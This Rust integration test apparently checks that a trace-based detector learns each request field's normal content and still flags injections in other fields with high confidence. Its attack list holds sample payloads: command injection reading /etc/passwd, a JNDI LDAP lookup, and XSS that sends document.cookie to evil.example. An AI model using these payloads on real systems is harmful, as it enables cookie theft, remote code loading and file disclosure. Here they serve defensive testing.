//! Learned field context on the real binary (issue #16, part 1). A CI service sends shell
//! scripts in its `script` body field and a CMS sends HTML with iframes in its `html` field,
//! an admin console's file manager sends system paths in its `path` field, and a paste
//! service sends code snippets in its `content` field, from many
//! client addresses over a minute; one client alone sends shell in a `note` field many
//! times. The server is killed (kill -9) after a periodic save and started
//! again. Then: the normal values raise nothing above low confidence and reach no sink,
//! injections in fields that never carried shell or HTML (and script markup in the HTML
//! field, and JNDI in the script field) are high and reach the sink, the field the single
//! client hammered learned nothing; a system file read in the file manager's `path` is
//! downgraded (`unmapped.downgraded` true) while the same path in its `name` field is high,
//! and a snippet a code-injection rule matches is downgraded in `content` and high in the
//! paste service's `title`. `sentrace detect profile list|show|reset` read the
//! profiles while the server runs, and reset refuses until it is stopped, then makes the
//! field learn again.

mod common;

use std::process::Command;
use std::time::{Duration, Instant};

use common::{BIN, Server, hex, kv, request, span};
use opentelemetry_proto::tonic::collector::trace::v1::ExportTraceServiceRequest;

const SEC: u64 = 1_000_000_000;

const SCRIPTS: &[&str] = &[
    "npm ci && npm test; chmod +x ./deploy.sh",
    "curl -fsSL https://get.example.dev/install.sh -o install.sh\nsh install.sh",
    "rm -rf build dist\nmake -j$(nproc) all",
    "cd packages/web && npm run build | tee build.log",
];
/// What an admin console's file manager sends in its `path` field.
const SYSTEM_PATHS: &[&str] = &[
    "/var/www/html/index.php",
    "/etc/nginx/sites-available/shop.conf",
    "/var/log/nginx/access.log",
];
/// What a paste service's `content` field receives: program source, the first snippet a
/// code-injection rule matches (`${base}` is PHP's variable-variable syntax too).
const SNIPPETS: &[&str] = &[
    "const url = `${base}/api/${id}`;\nfetch(url).then(r => r.json());",
    "def total(items):\n    return sum(i.price * i.qty for i in items)",
];
const PAGES: &[&str] = &[
    "<p>Watch the tour.</p>\n<iframe src=\"https://player.example/embed/x1\" allowfullscreen></iframe>",
    "<figure><iframe src=\"https://video.example.com/embed/a2?rel=0\" allowfullscreen></iframe></figure>",
];

/// A POST of `body` (JSON) to `route` of `service` from `client`, `ago` seconds ago.
fn post(
    n: u64,
    service: &str,
    route: &str,
    client: &str,
    ago: u64,
    body: serde_json::Value,
) -> (ExportTraceServiceRequest, String) {
    let mut s = span(n, &format!("POST {route}"));
    s.start_time_unix_nano -= ago * SEC;
    s.end_time_unix_nano -= ago * SEC;
    s.attributes = vec![
        kv("http.request.method", "POST"),
        kv("http.route", route),
        kv("url.path", route),
        kv("client.address", client),
        kv("http.request.body", &body.to_string()),
    ];
    let trace = hex(&s.trace_id);
    (request(service, vec![s]), trace)
}

fn export(srv: &Server, token: &str, req: &ExportTraceServiceRequest) {
    let r = srv.post_proto(token, req);
    assert_eq!(r.status().as_u16(), 200, "export failed");
}

fn findings(srv: &Server, token: &str, trace: &str) -> Vec<serde_json::Value> {
    let r = srv.get(token, &format!("/api/findings?trace_id={trace}&limit=100"));
    assert_eq!(r.status().as_u16(), 200);
    let v: serde_json::Value = r.json().unwrap();
    v["data"].as_array().cloned().unwrap_or_default()
}

fn max_confidence(f: &[serde_json::Value], family: Option<&str>) -> u64 {
    f.iter()
        .filter(|f| family.is_none_or(|fam| f["finding_info"]["types"][0] == fam))
        .filter_map(|f| f["confidence_score"].as_u64())
        .max()
        .unwrap_or(0)
}

fn uids(f: &[serde_json::Value]) -> Vec<String> {
    f.iter()
        .filter_map(|f| f["metadata"]["uid"].as_str().map(str::to_string))
        .collect()
}

/// `sentrace detect profile ARGS --data-dir DATA`: (success, stdout, stderr).
fn profile(srv: &Server, args: &[&str]) -> (bool, String, String) {
    let out = Command::new(BIN)
        .args(["detect", "profile"])
        .args(args)
        .arg("--data-dir")
        .arg(&srv.data)
        .output()
        .unwrap();
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// The saved profile of `field` of tenant acme, as `list --json` prints it.
fn saved(srv: &Server, field: &str) -> Option<serde_json::Value> {
    let (ok, out, err) = profile(
        srv,
        &["list", "--json", "--tenant", "acme", "--field", field],
    );
    assert!(ok || err.contains("no baselines"), "{err}");
    out.lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .next()
}

fn carries(p: &serde_json::Value, s: &str) -> bool {
    p["structures"]
        .as_array()
        .is_some_and(|a| a.iter().any(|x| x == s))
}

#[test]
fn fields_learn_their_normal_shape_and_injections_elsewhere_stay_high() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("tenant-rules");
    std::fs::create_dir(&rules).unwrap();
    // A field learns a structure from 10 distinct client addresses over 30 s of span time.
    std::fs::write(
        rules.join("acme.toml"),
        "[context]\nmin_sources = 10\nmin_secs = 30\n",
    )
    .unwrap();
    let sink = dir.path().join("findings.jsonl");
    let mut srv = Server::new(&format!(
        "[detect]\ntenant_rules_dir = \"{}\"\n[detect.baselines]\npersist_interval_secs = 1\n[detect.sinks.file]\npath = \"{}\"\n",
        rules.display(),
        sink.display()
    ));
    srv.launch();
    let ingest = srv.token("acme", "ingest");
    let read = srv.token("acme", "read");

    // 1. Learning: 80 CI and 80 CMS requests from 20 clients over 80 s; 120 requests of
    //    shell in `note` from one client over the same time.
    let mut n = 0;
    let mut batch = Vec::new();
    for i in 0..80u64 {
        let client = format!("10.0.{}.7", (i / 4) % 20);
        let ago = 100 - i;
        let script = SCRIPTS[i as usize % SCRIPTS.len()];
        batch.push(
            post(
                n,
                "ci",
                "/api/pipelines",
                &client,
                ago,
                serde_json::json!({"script": script, "ref": "main"}),
            )
            .0,
        );
        let page = PAGES[i as usize % PAGES.len()];
        batch.push(
            post(
                n + 1,
                "cms",
                "/pages/{id}",
                &client,
                ago,
                serde_json::json!({"html": page, "title": "Tour"}),
            )
            .0,
        );
        let path = SYSTEM_PATHS[i as usize % SYSTEM_PATHS.len()];
        batch.push(
            post(
                n + 2,
                "admin",
                "/api/files",
                &client,
                ago,
                serde_json::json!({"path": path, "name": "shop.conf"}),
            )
            .0,
        );
        let snippet = SNIPPETS[i as usize % SNIPPETS.len()];
        batch.push(
            post(
                n + 3,
                "paste",
                "/api/snippets",
                &client,
                ago,
                serde_json::json!({"content": snippet, "title": "fetch helper"}),
            )
            .0,
        );
        n += 4;
    }
    for i in 0..120u64 {
        let body = serde_json::json!({"note": SCRIPTS[i as usize % SCRIPTS.len()]});
        batch.push(post(n, "ci", "/api/notes", "10.66.0.1", 100 - i * 2 / 3, body).0);
        n += 1;
    }
    for chunk in batch.chunks(50) {
        let req = ExportTraceServiceRequest {
            resource_spans: chunk
                .iter()
                .flat_map(|r| r.resource_spans.clone())
                .collect(),
        };
        export(&srv, &ingest, &req);
    }

    // 2. A periodic save holds the learned profiles; `list` reads them while the server
    //    runs.
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        if saved(&srv, "body.script").is_some_and(|p| carries(&p, "shell"))
            && saved(&srv, "body.html").is_some_and(|p| carries(&p, "html"))
            && saved(&srv, "body.path").is_some_and(|p| carries(&p, "system_path"))
            && saved(&srv, "body.content").is_some_and(|p| carries(&p, "code"))
            && saved(&srv, "body.note").is_some_and(|p| p["values"].as_u64() >= Some(120))
        {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "profiles not saved; log:\n{}",
            srv.log()
        );
        std::thread::sleep(Duration::from_millis(200));
    }
    let note = saved(&srv, "body.note").expect("the note field is profiled");
    assert!(
        !carries(&note, "shell"),
        "one client taught nothing: {note}"
    );
    assert!(note["values"].as_u64().unwrap() >= 120, "{note}");
    let html = saved(&srv, "body.html").unwrap();
    assert!(!carries(&html, "active_html"), "{html}");

    // 3. Killed mid-scenario, started again.
    srv.kill9();
    srv.launch();

    // 4. Normal values from new clients: nothing above low confidence.
    let mut low = Vec::new();
    for (k, s) in SCRIPTS.iter().enumerate() {
        let (req, trace) = post(
            n,
            "ci",
            "/api/pipelines",
            &format!("10.9.0.{k}"),
            0,
            serde_json::json!({"script": s, "ref": "main"}),
        );
        n += 1;
        export(&srv, &ingest, &req);
        let f = findings(&srv, &read, &trace);
        assert!(max_confidence(&f, None) < 40, "{f:?}");
        assert!(
            f.iter().all(|f| f["unmapped"]["downgraded"] == true),
            "{f:?}"
        );
        low.extend(uids(&f));
    }
    assert!(
        !low.is_empty(),
        "downgraded findings are kept for the findings API"
    );
    for (k, p) in PAGES.iter().enumerate() {
        let (req, trace) = post(
            n,
            "cms",
            "/pages/{id}",
            &format!("10.9.1.{k}"),
            0,
            serde_json::json!({"html": p, "title": "Tour"}),
        );
        n += 1;
        export(&srv, &ingest, &req);
        let f = findings(&srv, &read, &trace);
        assert!(max_confidence(&f, None) < 40, "{f:?}");
        low.extend(uids(&f));
    }
    // A system file read in the file manager's `path` field: its normal shape.
    let (req, trace) = post(
        n,
        "admin",
        "/api/files",
        "10.9.1.9",
        0,
        serde_json::json!({"path": "/etc/ssl/openssl.cnf"}),
    );
    n += 1;
    export(&srv, &ingest, &req);
    let f = findings(&srv, &read, &trace);
    assert_all_downgraded(&f);
    low.extend(uids(&f));

    // A code snippet in the paste service's `content` field: its normal shape.
    let (req, trace) = post(
        n,
        "paste",
        "/api/snippets",
        "10.9.1.8",
        0,
        serde_json::json!({"content": SNIPPETS[0], "title": "fetch helper"}),
    );
    n += 1;
    export(&srv, &ingest, &req);
    let f = findings(&srv, &read, &trace);
    assert_all_downgraded(&f);
    low.extend(uids(&f));

    // 5. Injections: in fields that never carried shell, HTML or code (the same snippet in
    //    the paste service's `title`), script markup in the HTML
    //    field, JNDI in the script field, and shell in the field one client hammered.
    let attacks: Vec<(&str, &str, serde_json::Value, &str, u64)> = vec![
        (
            "ci",
            "/api/pipelines",
            serde_json::json!({"script": "make", "ref": "main; cat /etc/passwd"}),
            "cmdi",
            80,
        ),
        (
            "ci",
            "/api/pipelines",
            serde_json::json!({"script": "${jndi:ldap://evil.example/a}"}),
            "jndi",
            80,
        ),
        (
            "cms",
            "/pages/{id}",
            serde_json::json!({"html": "<p>x</p>", "title": "<iframe src=\"https://evil.example/\"></iframe>"}),
            "xss",
            80,
        ),
        (
            "cms",
            "/pages/{id}",
            serde_json::json!({"html": "<img src=x onerror=alert(document.cookie)>"}),
            "xss",
            80,
        ),
        (
            "cms",
            "/pages/{id}",
            serde_json::json!({"html": "<script>fetch('//evil.example/'+document.cookie)</script>"}),
            "xss",
            80,
        ),
        (
            "admin",
            "/api/files",
            serde_json::json!({"name": "/etc/ssl/openssl.cnf"}),
            "path_traversal",
            75,
        ),
        (
            "ci",
            "/api/notes",
            serde_json::json!({"note": SCRIPTS[0]}),
            "cmdi",
            80,
        ),
        (
            "paste",
            "/api/snippets",
            serde_json::json!({"content": "def f(): pass", "title": SNIPPETS[0]}),
            "code_injection",
            80,
        ),
    ];
    let mut high = Vec::new();
    for (service, route, body, family, min) in attacks {
        let (req, trace) = post(n, service, route, "10.9.2.1", 0, body.clone());
        n += 1;
        export(&srv, &ingest, &req);
        let f = findings(&srv, &read, &trace);
        assert!(max_confidence(&f, Some(family)) >= min, "{body}: {f:?}");
        assert!(
            f.iter()
                .any(|x| x["finding_info"]["types"][0] == family
                    && x["unmapped"]["downgraded"] == false),
            "{body}: {f:?}"
        );
        high.extend(uids(&f).into_iter().filter(|u| {
            f.iter().any(|x| {
                x["metadata"]["uid"] == u.as_str() && x["confidence_score"].as_u64() >= Some(40)
            })
        }));
    }

    // 6. High findings reach the sink; the downgraded ones do not.
    let deadline = Instant::now() + Duration::from_secs(30);
    let sent = loop {
        let text = std::fs::read_to_string(&sink).unwrap_or_default();
        if high.iter().all(|u| text.contains(u.as_str())) {
            break text;
        }
        assert!(Instant::now() < deadline, "high findings not in the sink");
        std::thread::sleep(Duration::from_millis(100));
    };
    for u in &low {
        assert!(
            !sent.contains(u.as_str()),
            "downgraded finding {u} was sent"
        );
    }

    // 7. show; reset refuses while the server runs; after a stop it forgets the field,
    //    which then raises its normal values again.
    let (ok, out, err) = profile(
        &srv,
        &["show", "--tenant", "acme", "--field", "body.script"],
    );
    assert!(ok, "{err}");
    assert!(
        out.contains("carries: ") && out.contains("shell") && out.contains("learned"),
        "{out}"
    );
    let (ok, _, err) = profile(
        &srv,
        &["reset", "--tenant", "acme", "--field", "body.script"],
    );
    assert!(!ok && err.contains("stop the server"), "{err}");
    let (ok, _, err) = profile(&srv, &["reset", "--tenant", "acme"]);
    assert!(!ok && err.contains("--all"), "{err}");
    srv.stop();
    let (ok, out, err) = profile(
        &srv,
        &["reset", "--tenant", "acme", "--field", "body.script"],
    );
    assert!(ok && out.contains("removed 1"), "{out} {err}");
    assert!(saved(&srv, "body.script").is_none());
    assert!(saved(&srv, "body.html").is_some_and(|p| carries(&p, "html")));
    srv.launch();
    let (req, trace) = post(
        n,
        "ci",
        "/api/pipelines",
        "10.9.3.1",
        0,
        serde_json::json!({"script": SCRIPTS[0]}),
    );
    export(&srv, &ingest, &req);
    assert!(max_confidence(&findings(&srv, &read, &trace), Some("cmdi")) >= 80);
    let (req, trace) = post(
        n + 1,
        "cms",
        "/pages/{id}",
        "10.9.3.1",
        0,
        serde_json::json!({"html": PAGES[0]}),
    );
    export(&srv, &ingest, &req);
    assert!(
        max_confidence(&findings(&srv, &read, &trace), None) < 40,
        "html still learned"
    );
}

/// `f` holds findings, each downgraded to low confidence.
fn assert_all_downgraded(f: &[serde_json::Value]) {
    assert!(
        !f.is_empty()
            && f.iter().all(|f| f["unmapped"]["downgraded"] == true
                && f["confidence_score"].as_u64() < Some(40)),
        "{f:?}"
    );
}
